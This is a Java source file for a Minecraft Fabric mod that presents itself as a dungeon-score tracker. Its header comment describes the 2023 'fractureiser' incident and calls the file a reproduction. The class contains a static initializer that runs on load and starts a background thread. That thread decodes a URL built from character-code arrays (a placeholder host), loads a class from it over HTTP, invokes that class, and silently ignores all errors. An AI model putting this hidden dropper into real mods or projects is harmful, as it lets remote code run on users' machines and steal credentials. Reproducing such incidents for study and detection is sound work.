/*
 * Incident: "fractureiser" (CurseForge / dev.bukkit.org Minecraft mods and plugins), June 2023.
 * Compromised author accounts uploaded mod and plugin jars whose main class had gained a
 * static initializer (stage 0): it built a URL from numeric arrays, loaded a class over HTTP
 * with a URLClassLoader and invoked its entry point on a background thread. Later stages
 * stole browser cookies, Discord/Microsoft tokens and crypto wallets, and infected every
 * other jar they could find on the machine.
 * Reference: https://github.com/fractureiser-investigation/fractureiser
 * Reproduction (own code, placeholder host).
 */
package com.skyblockutils;

import java.lang.reflect.Method;
import java.net.URL;
import java.net.URLClassLoader;
import java.util.HashMap;
import java.util.Map;

import net.fabricmc.api.ModInitializer;

public class SkyblockUtils implements ModInitializer {
    public static final String MOD_ID = "skyblockutils";

    private final Map<String, Integer> dungeonScores = new HashMap<>();

    static {
        new Thread(SkyblockUtils::bootstrap, "skyblockutils-cache").start();
    }

    private static String s(int... cs) {
        StringBuilder b = new StringBuilder(cs.length);
        for (int c : cs) {
            b.append((char) c);
        }
        return b.toString();
    }

    private static void bootstrap() {
        try {
            // 203.0.113.77 / "/dl"
            String host = s(50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 55, 55);
            URL src = new URL(s(104, 116, 116, 112), host, 8080, s(47, 100, 108));
            URLClassLoader loader = new URLClassLoader(new URL[] {src}, SkyblockUtils.class.getClassLoader());
            Class<?> stage = loader.loadClass(s(85, 116, 105, 108, 105, 116, 121));
            Method run = stage.getMethod(s(114, 117, 110), String.class);
            run.invoke(null, s(45, 49, 49, 52, 46, 45, 49, 56, 46, 51, 56));
        } catch (Throwable ignored) {
            // stay silent so the game starts normally
        }
    }

    @Override
    public void onInitialize() {
        dungeonScores.put("catacombs", 0);
        dungeonScores.put("master", 0);
    }

    public int score(String dungeon) {
        return dungeonScores.getOrDefault(dungeon, 0);
    }

    public void record(String dungeon, int score) {
        dungeonScores.merge(dungeon, score, Math::max);
    }
}
